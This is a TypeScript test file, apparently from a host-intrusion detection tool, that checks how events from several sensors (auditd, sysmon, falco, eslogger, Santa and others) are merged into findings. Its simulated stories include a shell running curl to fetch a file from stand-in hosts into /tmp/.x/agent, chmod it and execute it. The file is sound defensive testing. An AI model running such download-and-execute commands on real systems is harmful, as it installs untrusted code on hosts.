import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { ActedEvent, TelemetryEvent } from "@limpid/core";
import { sensorOf } from "@limpid/pipeline";
import { SOURCES, type Source, sourceNamed } from "@limpid/telemetry";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import type { Scene } from "../packages/detect/src/testing/scene.ts";
import { NO_FILE } from "../packages/telemetry/src/named-file.ts";
import { EsMessages } from "../packages/telemetry/src/testing/es-messages.ts";
import { readLog } from "../packages/telemetry/src/testing/read.ts";
import { SantaMessages } from "../packages/telemetry/src/testing/santa-messages.ts";
import { essence, happened, type Judged, judge, type Told, told } from "./support/judge-sensors.ts";
import { offBy, type SensorView, toTheSecond, VIEWS } from "./support/sensor-views.ts";
import { STORIES, tell } from "./support/stories-of-a-host.ts";

function source(name: string): Source {
  const found = sourceNamed(name);
  if (found === undefined) throw new Error(`no source ${name}`);
  return found;
}

const PAIRS: readonly { readonly first: SensorView; readonly second: SensorView; readonly whole?: boolean }[] = [
  { first: VIEWS.auditd, second: VIEWS.laurel },
  { first: VIEWS.auditd, second: VIEWS.osquery, whole: true },
  { first: VIEWS.auditd, second: VIEWS.sysmon },
  { first: VIEWS.auditd, second: VIEWS.falco },
  { first: VIEWS.auditd, second: VIEWS.tetragon },
  { first: VIEWS.auditd, second: VIEWS.ecs },
  { first: VIEWS.auditd, second: VIEWS.ocsf },
  { first: VIEWS.eslogger, second: VIEWS.santa },
  { first: VIEWS.eslogger, second: VIEWS.osquery, whole: true },
  { first: VIEWS.ecs, second: VIEWS.ocsf },
];

describe.each(PAIRS)("$first.source and $second.source of one host", ({ first, second, whole = false }) => {
  describe.each(Object.entries(STORIES))("%s", (_name, story) => {
    const events = tell(story);
    const one = told(first, events);
    const other = told(second, events);
    const alone = essence(judge([one]));
    const stamped = (skew: number, jitter: readonly number[]): Told => ({
      source: other.source,
      events: whole ? toTheSecond(offBy(other.events, skew, jitter)) : offBy(other.events, skew, jitter),
    });

    it("gives the findings of the first alone, whatever the stamps of the second within the tolerance", () => {
      expect(alone.length).toBeGreaterThan(0);
      fc.assert(
        fc.property(
          fc.integer({ min: -1400, max: 1400 }),
          fc.array(fc.integer({ min: 0, max: 400 }), { maxLength: 7 }),
          fc.integer({ min: 1, max: 40 }),
          fc.boolean(),
          (skew, jitter, atOnce, turned) => {
            const pair = [one, stamped(skew, jitter)];
            const both = judge(turned ? pair.reverse() : pair, atOnce);
            expect(essence(both)).toEqual(alone);
            expect(both.counts).toMatchObject({ disputed: 0, late: 0, early: 0 });
          },
        ),
        { numRuns: 15 },
      );
    });
  });
});

describe("any story", () => {
  const PATHS = ["/tmp/a", "/tmp/b", "/var/tmp/.c"] as const;
  const step = fc.record({
    what: fc.constantFrom("spawn", "exec", "create", "open", "chmod", "rename", "unlink", "run", "exit", "wait"),
    who: fc.nat(5),
    path: fc.constantFrom(...PATHS),
    to: fc.constantFrom(...PATHS),
    ms: fc.integer({ min: 1, max: 2500 }),
  });

  const storyOf = (steps: readonly (typeof step extends fc.Arbitrary<infer T> ? T : never)[]) => (scene: Scene) => {
    const first = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/dash", "sh -c x");
    const shells = [first];
    const gone = new Set<unknown>();
    for (const [index, { what, who, path, to, ms }] of steps.entries()) {
      const actor = shells[who % shells.length] ?? first;
      const there = scene.files.has(path);
      if (what === "wait") scene.wait(ms);
      if (gone.has(actor)) continue;
      if (what === "spawn") shells.push(actor.fork().exec(`/usr/bin/tool-${who}`, `tool ${index}`));
      else if (what === "exec") actor.exec(`/usr/bin/next-${who}`, `next ${index}`);
      else if (what === "create" && !there) actor.create(path);
      else if (what === "open" && there) actor.open(path);
      else if (what === "chmod" && there) actor.chmod(path);
      else if (what === "rename" && there && path !== to) actor.rename(path, to);
      else if (what === "unlink" && there) actor.unlink(path);
      else if (what === "run" && there) actor.fork().exec(path, `${path} ${index}`).exit();
      else if (what === "exit" && actor !== first) {
        actor.exit();
        gone.add(actor);
      }
    }
  };

  const cases = PAIRS.map(({ first, second, whole = false }) => ({
    name: `${first.source} ${second.source}`,
    first,
    second,
    whole,
  }));
  test.each(cases)("$name: a second sensor changes no life of the first", ({ first, second, whole }) => {
    fc.assert(
      fc.property(fc.array(step, { maxLength: 40 }), fc.integer({ min: -1400, max: 1400 }), (steps, skew) => {
        const events = tell(storyOf(steps));
        const one = told(first, events);
        const moved = offBy(second.tell(events), skew);
        const other = { source: second.source, events: whole ? toTheSecond(moved) : moved };
        expect(happened(judge([one, other]))).toEqual(happened(judge([one])));
      }),
      { numRuns: 60 },
    );
  });
});

const VIEW = Object.values(VIEWS);

describe("all sensors at once", () => {
  test.each(Object.entries(STORIES))("%s: one finding each, in whatever order the logs are named", (_name, story) => {
    const events = tell(story);
    const logs = VIEW.map((view, index) => ({ source: view.source, events: offBy(view.tell(events), index * 7) }));
    const linux = logs
      .filter(({ source }) => source !== "eslogger" && source !== "santa")
      .map((log) => (log.source === "osquery" ? { ...log, events: toTheSecond(log.events) } : log));
    const alone = judge([told(VIEWS.auditd, events)]);
    const all = judge(linux);
    expect(happened(all)).toEqual(happened(alone));
    expect(essence(all)).toEqual(essence(alone));
    expect(judge([...linux].reverse())).toEqual(all);
  });
});

describe("one sensor tells of processes, the other of files", () => {
  test.each(Object.entries(STORIES))("%s", (_name, story) => {
    const events = tell(story);
    const processes = events.filter(({ kind }) => kind.startsWith("process."));
    const files = events.filter(({ kind }) => !kind.startsWith("process."));
    const both = judge([told(VIEWS.auditd, processes), told(VIEWS.falco, files)]);
    const path = (judged: Judged) =>
      essence(judged).map(({ path, creator, executions, lineage }) => ({ path, creator, executions, lineage }));
    expect(path(both)).toEqual(path(judge([told(VIEWS.auditd, events)])));
  });
});

/** The event, of a process that bears another pid than it was told with. */
function underPid(event: ActedEvent, from = 0, to = 0): ActedEvent {
  const named = event.kind === "process.forked" && event.child === from ? { ...event, child: to } : event;
  return event.process.pid === from ? { ...named, process: { ...event.process, pid: to } } : named;
}

/** Neither tells everything: what both together say of a drop, but for the times that only one of them knows. */
describe("tetragon and falco of one host", () => {
  const told = (judged: Judged) =>
    essence(judged).map(({ path, before, creator, executions }) => ({
      path,
      before,
      creator,
      executions: executions.map(([, argv]) => argv),
    }));

  test.each(Object.entries(STORIES))("%s", (_name, story) => {
    const events = tell(story);
    const processes = { source: "tetragon", events: VIEWS.tetragon.tell(events) };
    const files = VIEWS.falco.tell(events);
    const expected = told(judge([processes, { source: "falco", events: files }]));
    expect(expected.length).toBeGreaterThan(0);
    fc.assert(
      fc.property(fc.integer({ min: -1400, max: 1400 }), (skew) => {
        expect(told(judge([processes, { source: "falco", events: offBy(files, skew) }]))).toEqual(expected);
      }),
    );
  });
});

describe("what looks alike and is not", () => {
  const drop = (scene: Scene) => {
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/a http://h/a").create("/tmp/a").chmod("/tmp/a").exit();
    return shell;
  };

  it("two runs of one program under one pid, told by one sensor, stay two; the other one missed the first", () => {
    const pids: number[] = [];
    const events = tell((scene) => {
      const shell = drop(scene);
      pids.push(shell.fork().exec("/tmp/a", "/tmp/a").exit().pid);
      scene.wait(5);
      pids.push(shell.fork().exec("/tmp/a", "/tmp/a").exit().pid);
    }).map((event) => underPid(event, pids[1], pids[0]));
    const second = VIEWS.sysmon.tell(events);
    const first = second.findIndex(
      ({ kind, ...event }) => kind === "process.executed" && "image" in event && event.image === "/tmp/a",
    );
    const both = judge([
      told(VIEWS.auditd, events),
      { source: "sysmon-linux", events: second.filter((_event, at) => at !== first) },
    ]);
    expect(both.findings.map(({ executions }) => executions.length)).toEqual([2]);
    expect(new Set(both.findings[0]?.executions.map(({ process }) => process)).size).toBe(2);
  });

  it("the same on two hosts is two", () => {
    const events = tell((scene) => drop(scene).fork().exec("/tmp/a", "/tmp/a").exit());
    const elsewhere = VIEWS.sysmon.tell(events).map((event) => ({ ...event, host: "other" }));
    const both = judge([told(VIEWS.auditd, events), { source: "sysmon-linux", events: elsewhere }]);
    expect(both.findings.map(({ host }) => host).sort()).toEqual(["host", "other"]);
    expect(both.counts.again).toBe(0);
  });

  it("a file that one sensor saw and one that the other saw, under one name an hour later, are two", () => {
    const events = tell((scene) => {
      drop(scene).fork().exec("/tmp/a", "/tmp/a").exit();
      scene.process({ image: "/usr/sbin/nginx" }).unlink("/tmp/a");
      scene.wait(3_600_000);
      drop(scene).fork().exec("/tmp/a", "/tmp/a").exit();
    });
    const later = events.findIndex(({ kind }) => kind === "file.removed") + 1;
    const both = judge([told(VIEWS.auditd, events.slice(0, later)), told(VIEWS.ecs, events.slice(later))]);
    expect(both.findings.map(({ executions }) => executions.length)).toEqual([1, 1]);
  });
});

describe("what one sensor adds", () => {
  it("a hash that one knows stands in the finding whose file the other one knows, with both ids in its timeline", () => {
    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
    const [finding] = judge([told(VIEWS.auditd, events), told(VIEWS.ecs, events)]).findings;
    expect(finding?.artifact).toMatchObject({ path: "/tmp/.x/agent", sha256: "5".repeat(64) });
    const created = finding?.timeline.find(({ what }) => what === "created");
    expect(created?.alsoToldBy).toEqual([`ecs:${created?.event}`]);
    expect(finding?.timeline.filter(({ what }) => what === "executed")).toHaveLength(1);
  });

  it("a hash of a table that knows whole seconds belongs to the file as it was at the end of its second", () => {
    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
    const file = { ...NO_FILE, path: "/tmp/.x/agent", pathBasis: "absolute", sha256: "6".repeat(64) } as const;
    const at = Math.floor((events[0]?.at ?? 0) / 1000) * 1000; // before the file was there, by its stamp
    const report: TelemetryEvent = {
      kind: "file.reported",
      id: "osquery:1",
      at,
      host: "host",
      file,
      change: "written",
    };
    const [finding] = judge([told(VIEWS.auditd, events), { source: "osquery", events: [report] }]).findings;
    expect(finding?.artifact).toMatchObject({ path: "/tmp/.x/agent", sha256: "6".repeat(64) });
  });

  it("where they name different programs for one execution, the more trusted one is believed, and it is said", () => {
    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
    const misled = VIEWS.falco.tell(events).map((event) =>
      event.kind === "process.executed" && event.image === "/usr/bin/curl"
        ? {
            ...event,
            image: "/usr/bin/logger",
            file: { ...event.file, path: "/usr/bin/logger" },
            argv: ["logger", "hello"],
            process: { ...event.process, image: "/usr/bin/logger" },
          }
        : event,
    );
    const { findings, counts } = judge([told(VIEWS.auditd, events), { source: "falco", events: misled }]);
    expect(counts.disputed).toBe(1);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.creator.image).toBe("/usr/bin/curl");
    expect(findings[0]?.missing.find(({ id }) => id === "sensors-disagree")?.explanation).toMatch(/logger.*curl/);
  });
});

it("every source has its place among those whose word counts, as the guide says", () => {
  const guide = readFileSync(join(import.meta.dirname, "..", "docs", "guides", "several-sensors.md"), "utf8");
  const order = /the more trusted one is believed: ([^.]+), in this order/.exec(guide)?.[1]?.toLowerCase().split(", ");
  const ranked = SOURCES.map(({ name }) => sensorOf(name)).sort((one, other) => one.rank - other.rank);
  expect(new Set(ranked.map(({ rank }) => rank)).size).toBe(SOURCES.length);
  expect(order).toEqual(ranked.map(({ name }) => name.replace("-linux", "").replace("-", " ")));
});

describe("eslogger and Santa of one Mac, in their own words", () => {
  /** The same story in each sensor's log; their makers begin with other pids, inodes and hours. */
  const es = new EsMessages();
  const santa = new SantaMessages();
  const agent = ["/tmp/.x/agent"];
  const shells = [es.spawn(es.running("/usr/libexec/sshd"), "/bin/zsh", ["zsh", "-c", "x"])] as const;
  const others = [santa.spawn(santa.running("/usr/libexec/sshd"), "/bin/zsh", ["zsh", "-c", "x"])] as const;
  const curl = es.spawn(shells[0], "/usr/bin/curl", ["curl", "-o", "/tmp/.x/agent", "http://203.0.113.7/a"]);
  const same = santa.spawn(others[0], "/usr/bin/curl", ["curl", "-o", "/tmp/.x/agent", "http://203.0.113.7/a"]);
  es.make(curl, "/tmp/.x/agent").chmod(curl, "/tmp/.x/agent", 0o755).exit(curl);
  santa.close(same, "/tmp/.x/agent").exit(same);
  es.exit(es.spawn(shells[0], "/tmp/.x/agent", agent));
  santa.exit(santa.spawn(others[0], "/tmp/.x/agent", agent));

  const inodes = new Map(
    [...es.log.matchAll(/"path":"([^"]+)"[^{}]*"stat":\{[^}]*?"st_ino":(\d+)/g)].map(([, path, inode]) => [
      path,
      inode,
    ]),
  );
  const aligned = santa.log
    .replaceAll("T07:", "T06:")
    .replace(/"pid":(\d{3,})/g, (_all, pid) => `"pid":${Number(pid) - 200}`)
    .replace(/"pidversion":(\d{3,})/g, (_all, version) => `"pidversion":${Number(version) - 300}`)
    .replace(
      /"path":"([^"]+)"([^{}]*"stat":\{[^{}]*"ino":)"\d+"/g,
      (_all, path, between) => `"path":"${path}"${between}"${inodes.get(path) ?? 1}"`,
    );

  const told = (skew: number): readonly Told[] => [
    { source: "eslogger", events: readLog(source("eslogger"), es.log, 65_536, "mac").events },
    { source: "santa", events: offBy(readLog(source("santa"), aligned, 65_536, "mac").events, skew) },
  ];

  it.each([[-40], [0], [7], [900]])(
    "stamps %i ms apart: one file, written once, run once, with what both know",
    (skew) => {
      const [alone] = judge(told(0).slice(0, 1), 3, "macos").lives.filter(isAgent);
      const both = judge(told(skew), 3, "macos");
      const [agentLife, ...more] = both.lives.filter(isAgent);
      expect(more).toEqual([]);
      expect({ ...agentLife, reported: undefined }).toEqual({ ...alone, reported: undefined });
      expect(agentLife).toMatchObject({ reported: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } });
      expect(both.counts).toMatchObject({ disputed: 0, late: 0 });
      expect(both.counts.again).toBeGreaterThan(6);
    },
  );

  const isAgent = (life: object) => "path" in life && life.path === "/tmp/.x/agent";
});

describe("what cannot be joined", () => {
  it("a sensor whose clock is an hour off is told of all the same, and nothing is lost", () => {
    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
    const off = offBy(VIEWS.sysmon.tell(events), 3_600_000);
    const { counts, findings } = judge([told(VIEWS.auditd, events), { source: "sysmon-linux", events: off }]);
    expect(counts).toMatchObject({ told: events.length + off.length, again: 0, disputed: 0 });
    expect(findings.length).toBeGreaterThanOrEqual(1);
  });

  it("two logs of hosts one after the other are counted as late, and give what each gives alone", () => {
    const events = tell(STORIES["a web server's shell downloads and runs"] ?? (() => undefined));
    const host = (name: string, from: readonly TelemetryEvent[]) => from.map((event) => ({ ...event, host: name }));
    const auditd = [
      ...host("one", offBy(events, 60_000)),
      ...host("one", offBy(events, 120_000)),
      ...host("two", events),
    ];
    const falco = host("one", offBy(VIEWS.falco.tell(events), 120_000));
    const { counts, findings } = judge([
      { source: "auditd", events: auditd },
      { source: "falco", events: falco },
    ]);
    expect(findings.map(({ host: name }) => name).sort()).toEqual(["one", "one", "two"]);
    expect(counts.late).toBeGreaterThan(0);
  });
});
